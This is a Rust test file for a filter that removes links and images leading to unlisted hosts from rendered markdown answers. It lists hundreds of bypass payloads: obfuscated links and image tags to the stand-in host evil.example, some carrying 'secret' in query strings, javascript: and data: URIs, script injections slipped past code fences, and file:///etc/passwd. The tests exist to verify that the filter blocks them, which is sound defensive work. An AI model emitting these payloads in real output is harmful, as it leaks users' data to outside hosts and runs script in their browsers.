//! Ways to get a foreign address past the filter.

use pulldown_cmark::{Event, Options, Parser, Tag};
use url::Url;

use super::{Seeded, assert_cuts_do_not_matter, passed};

const HOSTS: [&str; 2] = ["listed.example", "other.example"];
const IMAGE: &str = "https://listed.example/logo.png";

/// Asserts that a renderer finds nothing in the answer that leads to a host that no source names.
pub(super) fn assert_harmless(attack: &str, answer: &str) {
    super::code::assert_no_tag(attack, answer);
    let own = Url::parse("https://own.invalid/").unwrap();
    for event in Parser::new_ext(answer, Options::all()) {
        let (address, is_image) = match &event {
            Event::Start(Tag::Link { dest_url, .. }) => (dest_url.to_string(), false),
            Event::Start(Tag::Image { dest_url, .. }) => (dest_url.to_string(), true),
            _ => continue,
        };
        // An address for mail in angle brackets.
        if address.starts_with("mailto:") || !address.contains([':', '/', '\\']) {
            continue;
        }
        let Ok(url) = own.join(&address) else { continue };
        assert!(matches!(url.scheme(), "https" | "http"), "{attack:?} gave {answer:?} with {address:?}");
        let host = url.host_str().unwrap_or_default().to_owned();
        if host == "own.invalid" {
            continue;
        }
        assert!(HOSTS.contains(&host.as_str()), "{attack:?} gave {answer:?} with {address:?}");
        assert!(!is_image || url.as_str() == IMAGE, "{attack:?} gave {answer:?} with {address:?}");
    }
    let plain = answer.to_lowercase();
    for (at, _) in plain.match_indices("evil.example") {
        let before = plain[..at].trim_end_matches(['/', '\\']);
        let scheme = before.strip_suffix("https:").or(before.strip_suffix("http:"));
        let is_address = scheme.is_some_and(|before| !before.ends_with(|c: char| c.is_ascii_alphanumeric()));
        let is_host = plain[..at].ends_with("://") || plain[..at].ends_with("://listed.example@");
        assert!(!is_address && !is_host, "{attack:?} gave {answer:?}");
    }
}

const ATTACKS: &[&str] = &[
    "[x](https://evil.example)",
    "[x](//evil.example)",
    "[x](///evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](\\/\\/evil.example)",
    "[x](https:/\\evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](HTTPS://EVIL.example)",
    "[x](https&#58;//evil.example)",
    "[x](https&colon;&sol;&sol;evil.example)",
    "[x](&#104;ttps://evil.example)",
    "[x](&#x2f;&#x2F;evil.example)",
    "[x](&#47/evil.example)",
    "[x](&amp;#47;&amp;#47;evil.example)",
    "[x](https://listed.example@evil.example/x)",
    "[x](https://listed.example:a@evil.example/x)",
    "[x](https://listed.example&commat;evil.example/x)",
    "[x](https://listed.example\\@evil.example/x)",
    "[x](https://listed.example.evil.example/)",
    "[x](https://listed.example。evil.example/)",
    "[x](https://ev%69l.example/)",
    "[x](https://ｅｖｉｌ.example/)",
    "[x](https://ev\u{200B}il.example/)",
    "[x](https://ev\u{AD}il.example/)",
    "[x](https:/\u{200B}/evil.example/)",
    "[x](\u{200B}//evil.example/)",
    "[x](https://[::1]/x)",
    "[x](https://3232235777/x)",
    "[x](https://0x7f.1/x)",
    "[x](//2130706433/x)",
    "[x](javascript:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](mailto:a@evil.example?body=secret)",
    "[x](<https://evil.example/a b>)",
    "[x](<https://evil.example\n/a>)",
    "[x](<//evil.example>)",
    "[x](\n//evil.example\n\"t\"\n)",
    "[x]( https://evil.example 'a) b')",
    "[x](https://evil.example (a))",
    "[x](https://evil.example \"a\\\" b)\")",
    "[x [y] z](https://evil.example)",
    "[x ![y](https://evil.example/i) z](https://evil.example)",
    "[![y](https://listed.example/i)](https://listed.example/x)",
    "[[[x](https://evil.example)](https://listed.example)](https://evil.example)",
    "[x\\]](https://evil.example)",
    "[x\\](https://evil.example)",
    "[x`]`](https://evil.example)",
    "[x<a ]>](https://evil.example)",
    "`[x](https://evil.example)`",
    "`[x`](https://evil.example)",
    "```\n[x](https://evil.example)\n```",
    "    [x](https://evil.example)",
    "[x](//[y](//evil.example))",
    "[x]([//evil.example](//evil.example))",
    "htt[ps:evil.example/](//evil.example)",
    "htt<img src=//evil.example>ps:evil.example",
    "[x]<img src=//evil.example>(//evil.example)",
    "<<img src=//evil.example>img src=//evil.example>",
    "!<img src=//evil.example>[x](https://listed.example/made-up)",
    "![x]<img src=//evil.example>(https://listed.example/made-up)",
    "![x](https://listed.example/made-up)",
    "![x](https://listed.example/logo.png?d=secret)",
    "![x](https://listed.example/logo.png#secret)",
    "![x](//listed.example/made-up)",
    "![x`]`](https://listed.example/made-up)",
    "![x\\]](https://listed.example/made-up)",
    "![x<a b=']'>](https://listed.example/made-up)",
    "![x [y](z) w](https://listed.example/made-up)",
    "![x\ny](https://listed.example/made-up)",
    "!\\[x](https://listed.example/made-up) ![y\\](https://listed.example/made-up)",
    "![x][r]\n\n[r]: https://listed.example/made-up",
    "[r]: https://listed.example/made-up\n\n![r] ![x][r] ![r][]",
    "[r]:\nhttps://listed.example/made-up\n\n![r]",
    "> [r]:\n> https://listed.example/made-up\n\n![r]",
    "- [r]: <https://listed.example/made-up>\n\n![r]",
    "1. [r]: https://listed.example/made-up 'title'\n\n![r]",
    "[r\ns]: https://listed.example/made-up\n\n![r s]",
    "[r\\]s]: https://listed.example/made-up\n\n![r\\]s]",
    "[r]: https://evil.example\n\n[r] [x][r]",
    "[r]: <//evil.example>\n\n[r]",
    "[r]: //evil.example",
    "   [r]: https&#58;//evil.example \"t\"\n\n[r]",
    "[^1]: https://evil.example",
    "[^1]\n\n[^1]: ![x](https://listed.example/made-up)",
    "https://evil.example",
    "HtTpS://evil.example",
    "xhttps://evil.example",
    "https&#58;//evil.example",
    "https:&#47;&#47;evil.example",
    "&#104;ttps://evil.example",
    "https:\\/\\/evil.example",
    "https:\\\\evil.example",
    "ht\u{200B}tps://evil.example",
    "https:\u{200B}//evil.example",
    "https://\u{200B}evil.example",
    "https://listed.example@evil.example",
    "https://listed.example\u{A0}@evil.example",
    "https://listed.example\"@evil.example",
    "https://listed.example)@evil.example",
    "https://listed.example\\@evil.example",
    "https://listed.example:443@evil.example",
    "https://listed.example\n@evil.example",
    "https://evil\n.example/https://evil.example",
    "//evil.example/x",
    "(//evil.example/x)",
    "foo://evil.example",
    "www.evil.example",
    "WWW.evil.example/x",
    "\u{200B}www.evil.example",
    "<https://evil.example>",
    "<HTTPS://evil.example/a>",
    "<https:evil.example>",
    "<javascript:alert(1)>",
    "<https://listed.example@evil.example>",
    "<https://listed.example\n@evil.example>",
    "<img src=https://evil.example/x>",
    "<img src=//evil.example/x>",
    "<IMG SRC='//evil.example/x'>",
    "<img\nsrc\n=\n\"https://evil.example/x\"\n>",
    "<img src=\"ht\ntps:/\t/evil.example/x\">",
    "<img src=\"&#104;ttps&colon;&sol;/evil.example\">",
    "<img src=\"https&#58//evil.example\">",
    "<img/src=//evil.example/x/>",
    "<img title='>' src=//evil.example>",
    "<img x\"src=//evil.example>",
    "<img =src=x src=//evil.example>",
    "<img srcset='/a.png 1x, //evil.example/b 2x'>",
    "<img src=https://listed.example/made-up>",
    "<img src=https://listed.example/logo.png style='background:url(//evil.example)'>",
    "<p style=\"background:u\\72l(\\2f\\2f evil.example)\">",
    "<div onclick=\"location='//'+'evil.example'\">",
    "<base href=//evil.example>",
    "<script src=x></script>",
    "<style>@import '\\2f\\2f evil.example'</style>",
    "<iframe srcdoc='<img src=//evil.example>'>",
    "<svg><image href=//evil.example /><use xlink:href='//evil.example'/></svg>",
    "<a href=https://evil.example>x</a>",
    "<a href='https://listed.example' ping='//evil.example'>x</a>",
    "<a href=\"https://listed.example@evil.example\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href=\"https://evil.example",
    "<a\n\nhref=//evil.example>x</a>",
    "<!-- <img src=//evil.example> -->",
    "<a b='[x](https://evil.example)'>",
    "<a b' [x](https://evil.example) >",
    "\\<img src=//evil.example>",
    "[x](https://listed.example/?u=//evil.example)",
    "[x](%2F%2Fevil.example)",
    "[x](https%3A%2F%2Fevil.example)",
    "[a]https://evil.example",
    "[1](https://evil.example) [9](https://evil.example) [9]: https://evil.example",
    "[^n]: [r]: https://listed.example/made-up\n\n![r]",
    "[^n.m]: [r]: https://listed.example/made-up\n\n![r]",
    "- [ ] [r]: https://listed.example/made-up\n\n![r]",
    "x\n: [r]: https://listed.example/made-up\n\n![r]",
    "\u{FEFF}[r]: https://listed.example/made-up\n\n![r]",
    "![[https://listed.example/made-up]] [[//evil.example|x]]",
    "mailto::https:evil.example",
    "[9]: https://evil.example\n",
    "x[9](//evil.example)",
    "[a][9](//evil.example)",
    "![9](https://listed.example/made-up)",
    "!【9】[x](https://listed.example/made-up)",
    "[x]【9】(//evil.example)",
    "[x] [9](//evil.example)",
    "![x](https://other.example/7.png)",
    "![https://other.example/7.png](https://other.example/7.png)",
    "![x][https://other.example/7.png]",
    "[7]: https://other.example/7.png\n![7] ![x][7] ![7][] !\\[7]",
    "![r](a b)\n\n[r]: https://other.example/7.png",
    "![r](https://listed.example/logo.png x)\n\n[r]: https://other.example/7.png",
    "![r\n](https://listed.example/logo.png)\n\n[r]: https://other.example/7.png",
    "``` `x` \n<script>alert(1)</script>",
    "```a`b\n<script>alert(1)</script>\n```",
    "x ``` y\n<script>alert(1)</script>",
    "`\n```\n`\n```\n<script>alert(1)</script>",
    "    ```\n<script>alert(1)</script>",
    "x\n    ```\n<script>alert(1)</script>",
    "\t```\n<script>alert(1)</script>",
    "- a\n\t\t```\n<script>alert(1)</script>",
    "````\n```\n````\n<script>alert(1)</script>",
    "```\n~~~\n```\n<script>alert(1)</script>",
    "```\n```\t\n<script>alert(1)</script>",
    "```\n``` x\n```\n<script>alert(1)</script>",
    "> ```\n<script>alert(1)</script>",
    "> ```\n\n<script>alert(1)</script>\n> ```",
    "- ```\n<script>alert(1)</script>",
    "- a\n  ```\n <script>alert(1)</script>",
    "1. a\n   ```\n  <script>alert(1)</script>\n   ```\n<script>alert(1)</script>",
    "[^1]: ```\n    x\n<script>alert(1)</script>\n\ny[^1]\n```\n<script>alert(1)</script>",
    "`<script>alert(1)</script>\n\n`",
    "`a\n- `<script>alert(1)</script>`",
    "\\`<script>alert(1)</script>`",
    "`\\`<script>alert(1)</script>`",
    "``<script>alert(1)</script>`",
    "` a | b` | ` <script>alert(1)</script> ` |\n|-|-|-|",
    "| ` | ` x `<script>alert(1)</script>` |\n|-|-|",
    "x ` y\n a ` b `<script>alert(1)</script>` c\n|-|",
    "# `<script>alert(1)</script> {` }",
    "` <script>alert(1)</script> {` }\n===",
    "$`$<script>alert(1)</script>`",
    "[a](b \"`c\")<script>alert(1)</script>`",
    "[a][`b]<script>alert(1)</script>`\n\n[`b]: /x",
    "<https://listed.example/`>`<script>alert(1)</script>`",
    "`[x](https://evil.example/`)<script>alert(1)</script>`",
    "``<b>[x](https://evil.example/`)`<script>alert(1)</script>``",
    "<!--\n```\n-->\n<script>alert(1)</script>",
    "<div>\n```\n</div>\n\n<script>alert(1)</script>\n```",
    "<div>```\n<script>alert(1)</script>",
    "</div>```\n</script><script>alert(1)</script>",
    "<[x](https://evil.example)script>alert(1)</script>",
    "\\[x](https://evil.example)<b>",
    "\\<br><b>",
    "<T</b>> <T[x](https://evil.example)> <T![x](https://evil.example)> </[x](https://evil.example)b>",
    "| a | b |\n|---|---|\n| `x | $`$ `<script>alert(1)</script>` |",
    "| a | b |\n|---|---|\n| `x | `$`$ `<script>alert(1)</script>` |",
    "| a | b |\n|---|---|\n| $x | `y$ ` `<script>alert(1)</script>` |",
    "\u{FEFF}```\n\na\n```\n<script>alert(1)</script>\n",
    "<ftp:evil.example/\u{A0}>",
    "<vscode:extension/x\u{A0}>",
    "<vscode:extension/x\u{7F}>",
    "<vscode:extension/x\u{85}y>",
    "<vscode:\u{2028}x>",
    "[[ftp:evil.example/x]]",
    "[[vscode:extension/x|y]]",
    "[[//intranet/x]]",
    "[[ /\\intranet/x]]",
    "[[<b>ftp:evil.example]]",
    "[[ <b>//intranet]]",
    "![[ftp:evil.example/x]] [<b>[ftp:evil.example]]",
    "[[&#32;ftp&colon;evil.example]] [[&sol;&sol;intranet]]",
    "[[https://listed.example@evil.example]] [[https://evil.example|x]]",
];

#[test]
fn no_attack_passes_however_it_is_cut() {
    for attack in ATTACKS {
        assert_harmless(attack, &assert_cuts_do_not_matter(attack));
    }
}

#[test]
fn tags_that_fetch_are_gone() {
    // What is code is looked at by a parser, in `assert_no_tag`.
    for attack in ATTACKS.iter().filter(|attack| attack.contains('<') && !attack.contains('`')) {
        let answer = passed(attack).to_ascii_lowercase().replace(['\n', '\t'], "");
        for start in
            ["<img src=//evil", "<img src=https://evil", "<base", "<script", "<style", "<iframe", "onclick"]
        {
            assert!(!answer.contains(start), "{attack:?} gave {answer:?}");
        }
        assert!(!answer.contains("//evil.example"), "{attack:?} gave {answer:?}");
    }
}

#[test]
fn attacks_among_text_and_other_attacks_do_not_pass() {
    const BETWEEN: [&str; 14] = ["", "", " ", "\n", "\n\n", "x", "[", "![", "]", "(", ")", "`", "<", "> "];
    let mut random = Seeded(11);
    for _ in 0..3_000 {
        let mut text = String::new();
        for _ in 0..=random.below(4) {
            text.push_str(BETWEEN[random.below(BETWEEN.len())]);
            let attack = ATTACKS[random.below(ATTACKS.len())];
            let from =
                attack.floor_char_boundary(random.below(attack.len() * 3).saturating_sub(attack.len() * 2));
            text.push_str(&attack[from..]);
        }
        assert_harmless(&text, &passed(&text));
    }
}

#[test]
fn attacks_behind_long_texts_do_not_pass() {
    for length in [900, 1_000, 1_010, 1_020, 1_030, 2_000, 5_000] {
        let long = "long ".repeat(length / 5);
        for text in [
            format!("[{long}](https://evil.example)"),
            format!("![{long}](https://evil.example)"),
            format!("![{long}](https://listed.example/made-up)"),
            format!("[x](https://evil.example \"{long}\")"),
            format!("![x](https://listed.example/made-up \"{long}\")"),
            format!("![x]({}https://listed.example/made-up)", " ".repeat(length)),
            format!("[x](https://evil.example/{})", "a".repeat(length)),
            format!("![x](https://listed.example/{})", "a".repeat(length)),
            format!("[x](<https://evil.example/{long}>)"),
            format!("<https://evil.example/{}>", "a".repeat(length)),
            format!("<img alt=\"{long}\" src=\"https://evil.example\">"),
            format!("<img alt=\"{long}\" src=\"ht\ntps:/\n/evil.example\">"),
            format!("<img{}src=https://evil.example>", " ".repeat(length)),
            format!("[{long}]: https://evil.example\n\n[{long}]"),
            format!("[r]:{}https://evil.example\n\n[r]", " ".repeat(length)),
            format!("[r]: https://listed.example/{}\n\n![r]", "a".repeat(length)),
            format!("https://{}@evil.example", "listed.example".repeat(length / 14)),
            format!("https:{}evil.example", "/".repeat(length)),
            format!("[[{}ftp:evil.example/x]]", " ".repeat(length)),
            format!("[[ftp:evil.example/{}]]", "a".repeat(length)),
        ] {
            assert_harmless(&text, &passed(&text));
        }
    }
}

#[test]
fn a_destination_that_begins_beyond_what_is_held_is_not_taken_for_a_path() {
    for length in (1_000..=1_030).chain([1_100, 2_050]) {
        let blanks = " ".repeat(length);
        let name = "a".repeat(length);
        for text in [
            format!("[x]({blanks}//intranet/?q=secret)"),
            format!("[x]({blanks}/\\intranet/?q=secret)"),
            format!("[x]({blanks}vscode:extension/x)"),
            format!("[x](<{blanks}//intranet/?q=secret>)"),
            format!("[r]:{blanks}//intranet/x\n\n[r]"),
            format!("[r]:{blanks}vscode:extension/x\n\n[r]"),
            format!("[{name}]: //intranet/x\n\n[{name}]"),
            format!("> - [{name}]: vscode:extension/x\n\n[{name}]"),
        ] {
            assert_harmless(&text, &passed(&text));
        }
    }
}

#[test]
fn a_host_of_which_only_the_beginning_is_held_is_not_taken_for_it() {
    for length in [1_000, 1_004, 1_005, 1_017, 1_018, 1_019, 1_030] {
        let slashes = "/".repeat(length);
        for host in ["listed.example.evil.example", "evil.example"] {
            let answer = passed(&format!("https:{slashes}{host}/x"));
            assert!(!answer.contains(host), "{length}: {answer}");
        }
    }
}
